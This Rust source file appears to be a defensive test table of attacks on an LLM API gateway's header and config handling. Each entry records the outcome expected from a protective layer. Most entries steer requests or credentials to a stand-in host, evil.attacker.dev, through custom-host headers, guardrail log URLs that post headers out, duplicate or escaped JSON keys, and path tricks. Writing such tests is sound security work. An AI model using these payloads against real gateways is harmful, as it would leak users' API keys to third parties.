//! The table of attacks. Sources: what was measured to leak at gateway 1.15.2, and what follows from its source.

use serde_json::json;

use super::{
    Attack,
    Bound::{Harmless, Refused},
    LOOT,
};
use crate::client::Call;

const STEERED: super::Bound = Refused(403, "destination_not_allowed");
const BAD_CONFIG: super::Bound = Refused(400, "invalid_config");

/// A guardrail whose check posts all request headers to the attacker.
const SPY: &str = r#"[{"default.log":{"logURL":"http://evil.attacker.dev/log"},"id":"spy"}]"#;

/// Every attack.
pub const ATTACKS: &[Attack] = &[
    // Steering headers.
    Attack {
        name: "custom host header",
        target: "openai-prod",
        call: |named| named.chat().header("x-portkey-custom-host", "http://evil.attacker.dev/v1"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "custom host header against a stored host",
        target: "hosted-prod",
        call: |named| named.chat().header("x-portkey-custom-host", "http://evil.attacker.dev/v1"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "custom host header given twice",
        target: "openai-prod",
        call: |named| {
            let call = named.chat().header("x-portkey-custom-host", "https://api.openai.com/v1");
            call.header("x-portkey-custom-host", "http://evil.attacker.dev/v1")
        },
        works_without_us: false,
        bound: BAD_CONFIG,
    },
    Attack {
        name: "azure resource name with a path",
        target: "azure-x",
        call: |named| named.chat().header("x-portkey-azure-resource-name", "evil.attacker.dev/#"),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "huggingface base url",
        target: "hf-prod",
        call: |named| named.chat().header("x-portkey-huggingface-base-url", "http://evil.attacker.dev"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "azure foundry url",
        target: "foundry-prod",
        call: |named| named.chat().header("x-portkey-azure-foundry-url", "https://evil.attacker.dev/models"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "vertex region as host",
        target: "vertex-prod",
        call: |named| named.chat().header("x-portkey-vertex-region", "evil.attacker.dev/#"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "aws region as host",
        target: "bedrock-key",
        call: |named| named.chat().header("x-portkey-aws-region", "evil.attacker.dev/#"),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "aws auth type",
        target: "bedrock-key",
        call: |named| named.chat().header("x-portkey-aws-auth-type", "assumedRole"),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "workers account id as path",
        target: "cf-prod",
        call: |named| named.chat().header("x-portkey-workers-ai-account-id", "../../x"),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "forwarded portkey key",
        target: "openai-prod",
        call: |named| named.chat().header("x-portkey-forward-headers", "authorization, x-portkey-config"),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "bedrock bucket header",
        target: "bedrock-key",
        call: |named| {
            named.name(Call::get("/v1/files/file-1")).header("x-portkey-aws-s3-bucket", "evil.attacker.dev/#")
        },
        works_without_us: false,
        bound: STEERED,
    },
    // Guardrails, hooks, mutators.
    Attack {
        name: "input guardrail header that logs",
        target: "openai-prod",
        call: |named| named.chat().header("x-portkey-default-input-guardrails", SPY),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "output guardrail header that logs",
        target: "openai-prod",
        call: |named| named.chat().header("x-portkey-default-output-guardrails", SPY),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "input guardrail in a config",
        target: "openai-prod",
        call: |named| {
            named.config(
                &named.leaf(json!({"input_guardrails": [{"default.log": {"logURL": "http://evil.attacker.dev/log"}}]})),
            )
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "output guardrail in camel case, in a target",
        target: "openai-prod",
        call: |named| {
            let spied =
                named.leaf(json!({"outputGuardrails": [{"default.log": {"logURL": "http://evil.attacker.dev/log"}}]}));
            named.config(&json!({"strategy": {"mode": "single"}, "targets": [spied]}))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "before request hook",
        target: "openai-prod",
        call: |named| {
            let hook = json!([{"type": "guardrail", "id": "spy", "checks": [
                {"id": "default.log", "parameters": {"logURL": "http://evil.attacker.dev/log"}}]}]);
            named.config(&named.leaf(json!({"before_request_hooks": hook})))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "webhook check on the parent of a target",
        target: "openai-prod",
        call: |named| {
            named.config(&json!({"strategy": {"mode": "single"}, "targets": [named.leaf(json!({}))],
                "input_guardrails": [{"default.webhook": {"webhookURL": "http://evil.attacker.dev/hook"}}]}))
        },
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "guardrail in a config without targets, entity in the header",
        target: "openai-prod",
        call: |named| {
            let config = json!({"retry": {"attempts": 1},
                "input_guardrails": [{"default.log": {"logURL": "http://evil.attacker.dev/log"}}]});
            named.chat().header("x-portkey-config", config.to_string())
        },
        works_without_us: true,
        bound: STEERED,
    },
    // Configs.
    Attack {
        name: "custom host in a config",
        target: "openai-prod",
        call: |named| named.config(&named.leaf(json!({"custom_host": "http://evil.attacker.dev/v1"}))),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "custom_Host",
        target: "openai-prod",
        call: |named| named.config(&named.leaf(json!({"custom_Host": "http://evil.attacker.dev/v1"}))),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "a second customHost",
        target: "hosted-prod",
        call: |named| {
            let leaf = named.leaf(json!({"custom_host": "https://llm.corp.dev/v1"})).to_string();
            let leaf = leaf.replacen(
                r#""custom_host":"https://llm.corp.dev/v1""#,
                r#""custom_host":"https://llm.corp.dev/v1","customHost":"http://evil.attacker.dev/v1""#,
                1,
            );
            Call::chat("gpt-4o-mini", "ping").header("x-portkey-config", leaf)
        },
        works_without_us: true,
        bound: BAD_CONFIG,
    },
    Attack {
        name: "custom host on the parent",
        target: "openai-prod",
        call: |named| {
            named.config(&json!({"strategy": {"mode": "fallback"}, "custom_host": "http://evil.attacker.dev/v1",
                "targets": [named.leaf(json!({}))]}))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        // Merged into the body of the request, from which no host is taken.
        name: "every URL inside override_params",
        target: "openai-prod",
        call: |named| {
            let evil = "http://evil.attacker.dev/v1";
            named.config(&named.leaf(json!({"override_params": {"custom_host": evil, "customHost": evil,
                "azure_foundry_url": evil, "huggingfaceBaseUrl": evil, "base_url": evil, "baseURL": evil}})))
        },
        works_without_us: false,
        bound: Harmless,
    },
    Attack {
        name: "sibling that forwards the config, weight 0 for ours",
        target: "openai-prod",
        call: |named| {
            let theirs = json!({"provider": "openai", "api_key": "x", "custom_host": "http://evil.attacker.dev/v1",
                "forward_headers": ["x-portkey-config"], "weight": 1});
            named.config(&json!({"strategy": {"mode": "loadbalance"},
                "targets": [named.leaf(json!({"weight": 0})), theirs]}))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "sibling that forwards the config to its own default host",
        target: "openai-prod",
        call: |named| {
            let theirs = json!({"provider": "cohere", "api_key": "x", "forwardHeaders": ["X-Portkey-Config"]});
            named.config(&json!({"strategy": {"mode": "fallback"}, "targets": [theirs, named.leaf(json!({}))]}))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "own leaf nested two levels below a sibling of ours",
        target: "openai-prod",
        call: |named| {
            let theirs = json!({"provider": "openai", "api_key": "x", "customHost": "http://evil.attacker.dev/v1",
                "forward_headers": ["x-portkey-config"]});
            named.config(&json!({"strategy": {"mode": "fallback"}, "targets": [
                {"strategy": {"mode": "loadbalance"}, "targets": [
                    {"strategy": {"mode": "single"}, "targets": [theirs]}]},
                named.leaf(json!({}))]}))
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "keys in unicode escapes",
        target: "openai-prod",
        call: |named| {
            let leaf = named.leaf(json!({"steer": "http://evil.attacker.dev/v1"})).to_string();
            let leaf = leaf.replace("\"steer\"", r#""custom\u005fhost""#);
            Call::chat("gpt-4o-mini", "ping").header("x-portkey-config", leaf)
        },
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "the same key twice",
        target: "hosted-prod",
        call: |named| {
            let leaf = named.leaf(json!({"custom_host": "https://llm.corp.dev/v1"})).to_string();
            let leaf = leaf.replacen('{', r#"{"custom_host":"https://llm.corp.dev/v1","#, 1);
            let leaf = leaf.replacen(
                r#""custom_host":"https://llm.corp.dev/v1""#,
                r#""custom_host":"http://evil.attacker.dev/v1""#,
                2,
            );
            Call::chat("gpt-4o-mini", "ping").header("x-portkey-config", leaf)
        },
        works_without_us: true,
        bound: BAD_CONFIG,
    },
    Attack {
        name: "config header given twice",
        target: "openai-prod",
        call: |named| {
            let call = named.config(&named.leaf(json!({})));
            call.header("x-portkey-config", r#"{"custom_host":"http://evil.attacker.dev/v1"}"#)
        },
        works_without_us: false,
        bound: BAD_CONFIG,
    },
    Attack {
        name: "resource name in a config",
        target: "azure-x",
        call: |named| named.config(&named.leaf(json!({"resource_name": "evil.attacker.dev/#"}))),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "a config of 17 kB",
        target: "openai-prod",
        call: |named| named.config(&named.leaf(json!({"override_params": {"user": "u".repeat(17_000)}}))),
        works_without_us: false,
        bound: Refused(431, "head_too_large"),
    },
    // Paths and queries.
    Attack {
        name: "proxy path that extends the host",
        target: "cohere-prod",
        call: |named| named.name(Call::post("/v1/proxy.evil.attacker.dev/x")).json(&json!({"a": 1})),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "proxy path that extends the port",
        target: "openai-prod",
        call: |named| named.name(Call::post("/v1/proxy2/x")).json(&json!({"a": 1})),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "azure host in the path",
        target: "azure-x",
        call: |named| named.name(Call::post("/v1/evil.attacker.dev/a.openai.azure.com/x")).json(&json!({"a": 1})),
        works_without_us: true,
        bound: STEERED,
    },
    Attack {
        name: "azure host in the path, encoded",
        target: "azure-x",
        call: |named| {
            named.name(Call::post("/v1/proxy/evil.attacker.dev/a%2eopenai%2Eazure.com/x")).json(&json!({"a": 1}))
        },
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "bedrock file id that names a host",
        target: "bedrock-key",
        call: |named| named.name(Call::get("/v1/files/s3%3A%2F%2Fevil.attacker.dev%23")),
        works_without_us: false,
        bound: STEERED,
    },
    Attack {
        name: "own key in the query of a google route",
        target: "google-prod",
        call: |named| {
            named.name(Call::post(&format!("/v1/models/gemini-pro:generateContent?key={LOOT}"))).json(&json!({"a": 1}))
        },
        works_without_us: true,
        bound: Harmless,
    },
    // Own credentials beside ours on proxy routes.
    Attack {
        name: "own authorization on a proxy route",
        target: "openai-prod",
        call: |named| {
            let call = named.name(Call::post("/v1/moderations")).json(&json!({"input": "x"}));
            call.header("x-api-key", LOOT).header("cookie", format!("session={LOOT}")).header("api-key", LOOT)
        },
        works_without_us: true,
        bound: Harmless,
    },
    Attack {
        name: "own x-api-key beats ours at anthropic",
        target: "anthropic-prod",
        call: |named| {
            let call = named.name(Call::post("/v1/messages/batches")).json(&json!({"requests": []}));
            call.header("x-api-key", LOOT).header("x-goog-api-key", LOOT).header("x-amz-security-token", LOOT)
        },
        works_without_us: false,
        bound: Harmless,
    },
    Attack {
        name: "hop-by-hop list that names what is injected",
        target: "openai-prod",
        call: |named| {
            named.chat().header("connection", "authorization, x-portkey-provider, x-portkey-config, keep-alive")
        },
        works_without_us: false,
        bound: Harmless,
    },
    // Bodies.
    Attack {
        name: "two models in a body",
        target: "openai-prod",
        call: |named| {
            let body = r#"{"model":"gpt-4o-mini","messages":[],"model":"@anthropic-prod/claude"}"#;
            named.name(Call::post("/v1/chat/completions")).body("application/json", body)
        },
        works_without_us: false,
        bound: Refused(400, "invalid_body"),
    },
    Attack {
        name: "two models, one spelled with an escape",
        target: "openai-prod",
        call: |named| {
            let body = r#"{"model":"gpt-4o-mini","messages":[],"m\u006fdel":"@anthropic-prod/claude"}"#;
            named.name(Call::post("/v1/chat/completions")).body("application/json", body)
        },
        works_without_us: false,
        bound: Refused(400, "invalid_body"),
    },
    // Mixing entities.
    Attack {
        name: "foreign leaf behind a condition",
        target: "openai-prod",
        call: |named| {
            let theirs = json!({"name": "theirs", "provider": "openai", "api_key": LOOT, "custom_host": "http://evil.attacker.dev/v1"});
            let ours = named.leaf(json!({"name": "ours"}));
            named.config(&json!({"targets": [ours, theirs], "strategy": {"mode": "conditional", "default": "ours",
                    "conditions": [{"query": {"metadata.tier": {"$eq": "x"}}, "then": "theirs"}]}}))
        },
        works_without_us: false,
        bound: STEERED,
    },
];
